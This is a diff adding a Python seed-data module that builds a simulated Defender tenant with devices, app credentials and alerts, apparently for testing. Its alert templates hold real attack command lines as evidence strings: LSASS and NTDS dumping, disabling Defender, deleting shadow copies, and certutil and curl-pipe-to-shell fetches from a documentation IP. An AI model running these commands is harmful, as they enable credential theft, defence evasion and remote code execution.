@@ -1,0 +1,572 @@
+"""Seed data: one simulated tenant, its app registrations, its devices and the alerts raised on them.
+
+Everything is drawn from a `random.Random(seed)`, so the same seed gives the same tenant, credentials, machines, alert
+ids and titles; times are offsets from the moment the data is built, so alerts always fall in the last 30 days.
+The alerts on the bulk machine come from a second stream, so asking for more of them leaves the rest unchanged.
+"""
+
+import hashlib
+import random
+import string
+import uuid
+from dataclasses import dataclass, field
+from datetime import UTC, datetime, timedelta
+
+TENANT_DOMAIN = "contoso-sim.onmicrosoft.com"
+TENANT_NAME = "Contoso (simulated)"
+DOMAIN = "corp.contoso.com"
+NETBIOS_DOMAIN = "CONTOSO"
+BULK_MACHINE = "bench-bulk-01.corp.contoso.com"
+
+# The alerts that a breach-and-attack simulation typically raises, per platform:
+# (title, category, detection source, severity, MITRE techniques, threat family, threat name, process or file).
+WINDOWS_ALERTS = [
+    (
+        "Suspicious access to LSASS service",
+        "CredentialAccess",
+        "WindowsDefenderAtp",
+        "High",
+        ["T1003.001"],
+        None,
+        None,
+        (
+            "rundll32.exe",
+            r"C:\Windows\System32",
+            r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Users\Public\lsass.dmp full",
+        ),
+    ),
+    (
+        "'Mimikatz' credential theft tool",
+        "CredentialAccess",
+        "WindowsDefenderAv",
+        "High",
+        ["T1003.001"],
+        "Mimikatz",
+        "HackTool:Win32/Mimikatz.D",
+        ("mimikatz.exe", r"C:\Users\Public\Downloads", None),
+    ),
+    (
+        "Suspicious PowerShell command line",
+        "Execution",
+        "WindowsDefenderAtp",
+        "Medium",
+        ["T1059.001", "T1027"],
+        None,
+        None,
+        (
+            "powershell.exe",
+            r"C:\Windows\System32\WindowsPowerShell\v1.0",
+            "powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=",
+        ),
+    ),
+    (
+        "Anomaly detected in ASEP registry",
+        "Persistence",
+        "WindowsDefenderAtp",
+        "Medium",
+        ["T1547.001"],
+        None,
+        None,
+        (
+            "reg.exe",
+            r"C:\Windows\System32",
+            r"reg.exe add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v Updater /d C:\Users\Public\upd.exe /f",
+        ),
+    ),
+    (
+        "Suspicious Task Scheduler activity",
+        "Persistence",
+        "WindowsDefenderAtp",
+        "Medium",
+        ["T1053.005"],
+        None,
+        None,
+        (
+            "schtasks.exe",
+            r"C:\Windows\System32",
+            r'schtasks.exe /Create /SC ONLOGON /TN "OneDrive Sync" /TR C:\Users\Public\sync.exe',
+        ),
+    ),
+    (
+        "Attempt to turn off Microsoft Defender Antivirus protection",
+        "DefenseEvasion",
+        "WindowsDefenderAtp",
+        "High",
+        ["T1562.001"],
+        None,
+        None,
+        (
+            "powershell.exe",
+            r"C:\Windows\System32\WindowsPowerShell\v1.0",
+            "powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true",
+        ),
+    ),
+    (
+        "Suspicious process injection observed",
+        "DefenseEvasion",
+        "WindowsDefenderAtp",
+        "Medium",
+        ["T1055", "T1055.012"],
+        None,
+        None,
+        ("notepad.exe", r"C:\Windows\System32", "notepad.exe"),
+    ),
+    (
+        "Suspicious remote activity",
+        "LateralMovement",
+        "WindowsDefenderAtp",
+        "Medium",
+        ["T1047", "T1021.006"],
+        None,
+        None,
+        (
+            "wmic.exe",
+            r"C:\Windows\System32\wbem",
+            'wmic.exe /node:"10.20.1.10" process call create "cmd.exe /c whoami"',
+        ),
+    ),
+    (
+        "PsExec launched a command on a remote device",
+        "LateralMovement",
+        "WindowsDefenderAtp",
+        "Low",
+        ["T1569.002", "T1021.002"],
+        None,
+        None,
+        ("PsExec.exe", r"C:\Tools", r"PsExec.exe \\dc-01 -s cmd.exe /c ipconfig"),
+    ),
+    (
+        "Suspicious sequence of exploration activities",
+        "Discovery",
+        "WindowsDefenderAtp",
+        "Low",
+        ["T1087.002", "T1069.002", "T1016"],
+        None,
+        None,
+        ("net.exe", r"C:\Windows\System32", 'net.exe group "Domain Admins" /domain'),
+    ),
+    (
+        "'EICAR_Test_File' malware was detected",
+        "Malware",
+        "WindowsDefenderAv",
+        "Informational",
+        [],
+        "EICAR_Test_File",
+        "Virus:DOS/EICAR_Test_File",
+        ("eicar.com", r"C:\Users\Public\Downloads", None),
+    ),
+    (
+        "Ransomware behavior detected in the file system",
+        "Ransomware",
+        "WindowsDefenderAtp",
+        "High",
+        ["T1486", "T1490"],
+        None,
+        None,
+        ("vssadmin.exe", r"C:\Windows\System32", "vssadmin.exe Delete Shadows /All /Quiet"),
+    ),
+    (
+        "Suspicious file downloaded by certutil",
+        "CommandAndControl",
+        "WindowsDefenderAtp",
+        "Medium",
+        ["T1105", "T1140"],
+        None,
+        None,
+        (
+            "certutil.exe",
+            r"C:\Windows\System32",
+            "certutil.exe -urlcache -split -f http://203.0.113.66/p.bin C:\\Users\\Public\\p.bin",
+        ),
+    ),
+    (
+        "Simulation marker file written to a public folder",
+        "SuspiciousActivity",
+        "CustomDetection",
+        "Low",
+        ["T1105"],
+        None,
+        None,
+        ("marker.txt", r"C:\Users\Public", None),
+    ),
+    (
+        "Automated investigation started manually",
+        "SuspiciousActivity",
+        "AutomatedInvestigation",
+        "Informational",
+        [],
+        None,
+        None,
+        None,
+    ),
+    ("Suspicious activity", "SuspiciousActivity", "WindowsDefenderAtp", "UnSpecified", [], None, None, None),
+    (
+        "Suspicious credential dump from NTDS.dit",
+        "CredentialAccess",
+        "WindowsDefenderAtp",
+        "High",
+        ["T1003.003"],
+        None,
+        None,
+        ("ntdsutil.exe", r"C:\Windows\System32", 'ntdsutil.exe "ac i ntds" ifm "create full C:\\Temp\\ntds" q q'),
+    ),
+]
+LINUX_ALERTS = [
+    (
+        "Suspicious shell script launched",
+        "Execution",
+        "WindowsDefenderAtp",
+        "Medium",
+        ["T1059.004"],
+        None,
+        None,
+        ("bash", "/usr/bin", "bash -c 'curl -s http://203.0.113.66/i.sh | sh'"),
+    ),
+    (
+        "Suspicious crontab modification",
+        "Persistence",
+        "WindowsDefenderAtp",
+        "Medium",
+        ["T1053.003"],
+        None,
+        None,
+        ("crontab", "/usr/bin", "crontab /tmp/.cron"),
+    ),
+    (
+        "Suspicious system discovery activity",
+        "Discovery",
+        "WindowsDefenderAtp",
+        "Low",
+        ["T1082", "T1033"],
+        None,
+        None,
+        ("uname", "/usr/bin", "uname -a"),
+    ),
+    (
+        "Possible credential access via /etc/shadow",
+        "CredentialAccess",
+        "WindowsDefenderAtp",
+        "High",
+        ["T1003.008"],
+        None,
+        None,
+        ("cat", "/usr/bin", "cat /etc/shadow"),
+    ),
+    (
+        "'Mirai' malware was prevented",
+        "Malware",
+        "WindowsDefenderAv",
+        "High",
+        [],
+        "Mirai",
+        "Backdoor:Linux/Mirai.B",
+        ("mirai.arm7", "/tmp", None),  # noqa: S108 - evidence text, not a file this code opens
+    ),
+    ("Suspicious activity", "SuspiciousActivity", "WindowsDefenderAtp", "UnSpecified", [], None, None, None),
+]
+MACOS_ALERTS = [
+    (
+        "Suspicious launchd plist created",
+        "Persistence",
+        "WindowsDefenderAtp",
+        "Medium",
+        ["T1543.001"],
+        None,
+        None,
+        ("com.apple.updates.plist", "/Library/LaunchAgents", None),
+    ),
+    (
+        "Suspicious osascript execution",
+        "Execution",
+        "WindowsDefenderAtp",
+        "Medium",
+        ["T1059.002"],
+        None,
+        None,
+        ("osascript", "/usr/bin", "osascript -e 'do shell script \"id\"'"),
+    ),
+    (
+        "Keychain access by the security tool",
+        "CredentialAccess",
+        "WindowsDefenderAtp",
+        "High",
+        ["T1555.001"],
+        None,
+        None,
+        ("security", "/usr/bin", "security dump-keychain -d login.keychain"),
+    ),
+    (
+        "'Pirrit' adware was detected",
+        "UnwantedSoftware",
+        "WindowsDefenderAv",
+        "Low",
+        [],
+        "Pirrit",
+        "Adware:MacOS/Pirrit",
+        ("Pirrit.app", "/Applications", None),
+    ),
+    (
+        "Suspicious system information discovery",
+        "Discovery",
+        "WindowsDefenderAtp",
+        "Informational",
+        ["T1082"],
+        None,
+        None,
+        ("system_profiler", "/usr/sbin", "system_profiler SPHardwareDataType"),
+    ),
+]
+ALERTS_BY_PLATFORM = {"windows": WINDOWS_ALERTS, "linux": LINUX_ALERTS, "macos": MACOS_ALERTS}
+
+# (computerDnsName, platform, osPlatform, version, osBuild, alerts, first alert within the last 2 hours, tags).
+# ws-fin-07 is what an actor's owner types; Defender holds the FQDN. ws-fin-071 shares its prefix, so a sloppy
+# startswith match picks up the wrong device. The lobby kiosk was renamed after onboarding, so only an alternate
+# hostname finds it. Linux devices often report a bare host name.
+MACHINES = [
+    ("ws-fin-07.corp.contoso.com", "windows", "Windows11", "23H2", 22631, 17, True, ["Finance"]),
+    ("ws-fin-071.corp.contoso.com", "windows", "Windows11", "23H2", 22631, 3, False, ["Finance"]),
+    ("lobby-kiosk-renamed.corp.contoso.com", "windows", "Windows10", "22H2", 19045, 6, True, ["Kiosk"]),
+    ("ws-eng-12.corp.contoso.com", "windows", "Windows11", "23H2", 22631, 10, False, ["Engineering"]),
+    ("ws-hr-03.corp.contoso.com", "windows", "Windows10", "22H2", 19045, 8, False, []),
+    ("dc-01.corp.contoso.com", "windows", "WindowsServer2022", "Other", 20348, 12, True, ["Tier0"]),
+    ("sql-prod-02.corp.contoso.com", "windows", "WindowsServer2019", "Other", 17763, 6, False, ["Production"]),
+    ("web-prod-02.corp.contoso.com", "linux", "Linux", "Ubuntu 22.04", None, 7, True, ["Production"]),
+    ("build-lnx-05", "linux", "Linux", "RHEL 9.3", None, 5, False, []),
+    ("mac-design-11.corp.contoso.com", "macos", "macOS", "14.5", None, 6, False, ["Design"]),
+    ("mbp-hr-04.corp.contoso.com", "macos", "macOS", "13.6", None, 4, False, []),
+    ("ws-quiet-01.corp.contoso.com", "windows", "Windows11", "23H2", 22631, 0, False, []),
+    (BULK_MACHINE, "windows", "Windows11", "23H2", 22631, 0, False, ["Benchmark"]),
+]
+
+# (actor hostname as typed in the product, alternate hostname or ""), all with alerts.
+ACTOR_HOSTNAMES = [
+    ("ws-fin-07", ""),
+    ("kiosk-lobby-01", "lobby-kiosk-renamed.corp.contoso.com"),
+    ("dc-01.corp.contoso.com", ""),
+    ("web-prod-02", ""),
+    ("mac-design-11", ""),
+]
+
+USERS = ["jdoe", "asmith", "mgarcia", "kchen", "svc-backup", "lobby"]
+ANALYSTS = ["secops@contoso-sim.onmicrosoft.com", "analyst.tier2@contoso-sim.onmicrosoft.com"]
+RESOLUTIONS = [
+    ("TruePositive", "SecurityTesting"),
+    ("InformationalExpectedActivity", "SecurityTesting"),
+    ("FalsePositive", "NotMalicious"),
+    ("TruePositive", "Malware"),
+]
+
+
+@dataclass(frozen=True)
+class AppCredential:
+    """An app registration with one client secret. The secret never shows in a repr, a log or a traceback."""
+
+    name: str
+    client_id: str
+    client_secret: str = field(repr=False)
+    secret_id: str
+    roles: tuple
+    secret_expired: bool = False
+
+
+def _guid(rng):
+    return str(uuid.UUID(int=rng.getrandbits(128), version=4))
+
+
+def _hex(rng, digits):
+    return f"{rng.getrandbits(digits * 4):0{digits}x}"
+
+
+def _secret(rng):
+    alphabet = string.ascii_letters + string.digits
+    return "sim~" + "".join(rng.choice(alphabet) for _ in range(36))
+
+
+def _alert_id(rng):
+    return f"da{rng.randint(10**17, 10**18 - 1)}_{rng.randint(-(2**31), 2**31 - 1)}"
+
+
+def _digest(algorithm, *parts):
+    return hashlib.new(algorithm, "|".join(parts).encode()).hexdigest()
+
+
+class SeedData:
+    def __init__(self, seed=1, alerts_on_bulk_machine=0, now=None):
+        self.seed = seed
+        self.now = (now or datetime.now(UTC)).replace(microsecond=0)
+        rng = random.Random(seed)
+        self.tenant_id = _guid(rng)
+        self.tenant_domain = TENANT_DOMAIN
+        self.tenant_name = TENANT_NAME
+        every_role = ("Alert.Read.All", "Machine.Read.All", "SecurityAlert.Read.All")
+        self.apps = {
+            name: AppCredential(name, _guid(rng), _secret(rng), _guid(rng), roles, expired)
+            for name, roles, expired in [
+                ("app", every_role, False),
+                ("app_without_machine_role", ("Alert.Read.All",), False),
+                ("app_without_roles", (), False),
+                ("app_expired_secret", every_role, True),
+            ]
+        }
+        self.machines = [self._machine(rng, *spec[:5], spec[7]) for spec in MACHINES]
+        self.alerts = []
+        for machine, spec in zip(self.machines, MACHINES, strict=True):
+            platform, count, recent = spec[1], spec[5], spec[6]
+            self.alerts += self._alerts(rng, machine, platform, count, recent)
+        bulk = self.machine_by_name(BULK_MACHINE)
+        self.alerts += self._alerts(random.Random(f"{seed}-bulk"), bulk, "windows", alerts_on_bulk_machine, False)
+        self.alerts.sort(key=lambda alert: (alert["alertCreationTime"], alert["id"]))
+        self.alerts_by_machine = {}
+        for alert in self.alerts:
+            self.alerts_by_machine.setdefault(alert["machineId"], []).append(alert)
+
+    def machine_by_name(self, name):
+        return next(m for m in self.machines if m["computerDnsName"].lower() == name.lower())
+
+    def _machine(self, rng, dns_name, platform, os_platform, version, os_build, tags):
+        host_octet = rng.randint(10, 250)
+        first_seen = self.now - timedelta(days=rng.randint(90, 700), seconds=rng.randint(0, 86399))
+        last_seen = self.now - timedelta(minutes=rng.randint(1, 180))
+        agent = {"windows": "10.8760.22621.3880", "linux": "101.24052.0002", "macos": "101.24062.0005"}[platform]
+        return {
+            "id": _hex(rng, 40),
+            "computerDnsName": dns_name,
+            "firstSeen": first_seen,
+            "lastSeen": last_seen,
+            "osPlatform": os_platform,
+            "osVersion": None,
+            "osProcessor": "x64",
+            "version": version,
+            "lastIpAddress": f"10.20.{rng.randint(1, 9)}.{host_octet}",
+            "lastExternalIpAddress": f"203.0.113.{rng.randint(1, 254)}",
+            "agentVersion": agent,
+            "osBuild": os_build,
+            "healthStatus": "Active",
+            "deviceValue": "High" if "Tier0" in tags else "Normal",
+            "rbacGroupId": 0,
+            "rbacGroupName": None,
+            "riskScore": rng.choice(["None", "Low", "Medium", "High"]),
+            "exposureLevel": rng.choice(["Low", "Medium", "High"]),
+            "isAadJoined": platform == "windows",
+            "aadDeviceId": _guid(rng) if platform == "windows" else None,
+            "machineTags": list(tags),
+            "defenderAvStatus": "Updated",
+            "onboardingStatus": "Onboarded",
+            "osArchitecture": "64-bit",
+            "managedBy": "Intune" if platform != "linux" else "Unknown",
+            "managedByStatus": "Success" if platform != "linux" else "Unknown",
+            "vmMetadata": None,
+        }
+
+    def _alerts(self, rng, machine, platform, count, recent):
+        pool = ALERTS_BY_PLATFORM[platform]
+        picks = []
+        while len(picks) < count:
+            # Whole shuffled rounds, so every template (and so every severity) shows up on the busiest devices.
+            picks += rng.sample(pool, len(pool))
+        incidents = [rng.randint(1000, 99999) for _ in range(max(1, count // 3))]
+        alerts = []
+        for index, template in enumerate(picks[:count]):
+            age = rng.uniform(300, 5400) if recent and index == 0 else rng.uniform(7200, 30 * 86400)
+            alerts.append(self._alert(rng, machine, template, age, rng.choice(incidents)))
+        return alerts
+
+    def _alert(self, rng, machine, template, age_seconds, incident_id):
+        title, category, source, severity, techniques, family, threat, artefact = template
+        created = self.now - timedelta(seconds=round(age_seconds, 3))
+        first_event = created - timedelta(seconds=rng.randint(30, 900))
+        last_event = created - timedelta(seconds=rng.randint(1, 29))
+        updated = min(created + timedelta(seconds=rng.randint(20, 4 * 3600)), self.now - timedelta(seconds=5))
+        status = rng.choices(["New", "InProgress", "Resolved"], weights=[5, 2, 3])[0]
+        classification = determination = resolved = None
+        if status == "Resolved":
+            classification, determination = rng.choice(RESOLUTIONS)
+            resolved = updated
+        assigned = None
+        if source == "AutomatedInvestigation":
+            assigned = "Automation"
+        elif status != "New":
+            assigned = rng.choice(ANALYSTS)
+        user = rng.choice(USERS)
+        alert_id = _alert_id(rng)
+        domain = machine["computerDnsName"].partition(".")[2]
+        evidence = [
+            {
+                "entityType": "User",
+                "evidenceCreationTime": created,
+                "accountName": user,
+                "domainName": NETBIOS_DOMAIN,
+                "userSid": "S-1-5-21-" + "-".join(str(rng.randint(10**9, 4 * 10**9)) for _ in range(3)),
+                "aadUserId": _guid(rng),
+                "userPrincipalName": f"{user}@{domain or DOMAIN}",
+                "detectionStatus": None,
+            }
+        ]
+        if artefact:
+            file_name, file_path, command_line = artefact
+            evidence.append(
+                {
+                    "entityType": "Process" if command_line else "File",
+                    "evidenceCreationTime": created,
+                    "sha1": _digest("sha1", file_path, file_name),
+                    "sha256": _digest("sha256", file_path, file_name),
+                    "fileName": file_name,
+                    "filePath": file_path,
+                    "processId": rng.randint(400, 20000) if command_line else None,
+                    "processCommandLine": command_line,
+                    "processCreationTime": last_event if command_line else None,
+                    "parentProcessId": rng.randint(400, 20000) if command_line else None,
+                    "parentProcessCreationTime": first_event if command_line else None,
+                    "detectionStatus": "Detected" if source == "WindowsDefenderAtp" else "Prevented",
+                }
+            )
+        investigation = rng.randint(1, 99999) if source in ("WindowsDefenderAv", "AutomatedInvestigation") else None
+        return {
+            "id": alert_id,
+            "incidentId": incident_id,
+            "investigationId": investigation,
+            "assignedTo": assigned,
+            "severity": severity,
+            "status": status,
+            "classification": classification,
+            "determination": determination,
+            "investigationState": "SuccessfullyRemediated" if investigation else "UnsupportedAlertType",
+            "detectionSource": source,
+            "detectorId": str(uuid.uuid5(uuid.NAMESPACE_URL, f"detector:{title}")),
+            "category": category,
+            "threatFamilyName": family,
+            "threatName": threat,
+            "title": title,
+            "description": f"{title} on {machine['computerDnsName']}. Review the process tree and the evidence.",
+            "alertCreationTime": created,
+            "firstEventTime": first_event,
+            "lastEventTime": last_event,
+            "lastUpdateTime": updated,
+            "resolvedTime": resolved,
+            "machineId": machine["id"],
+            "computerDnsName": machine["computerDnsName"],
+            "rbacGroupName": None,
+            "aadTenantId": self.tenant_id,
+            "mitreTechniques": list(techniques),
+            "relatedUser": {"userName": user, "domainName": NETBIOS_DOMAIN},
+            "loggedOnUsers": [{"accountName": user, "domainName": NETBIOS_DOMAIN}],
+            "comments": [],
+            "evidence": evidence,
+        }
+
+
+def iso(value):
+    """Microsoft's timestamp form: UTC, seven fractional digits, a Z."""
+    if not isinstance(value, datetime):
+        return value
+    value = value.astimezone(UTC)
+    return f"{value:%Y-%m-%dT%H:%M:%S}.{value.microsecond:06d}0Z"
+
+
+def jsonable(value):
+    """A seed record (datetimes inside) as the JSON-ready value the APIs send."""
+    if isinstance(value, dict):
+        return {key: jsonable(item) for key, item in value.items()}
+    if isinstance(value, list):
+        return [jsonable(item) for item in value]
+    return iso(value)
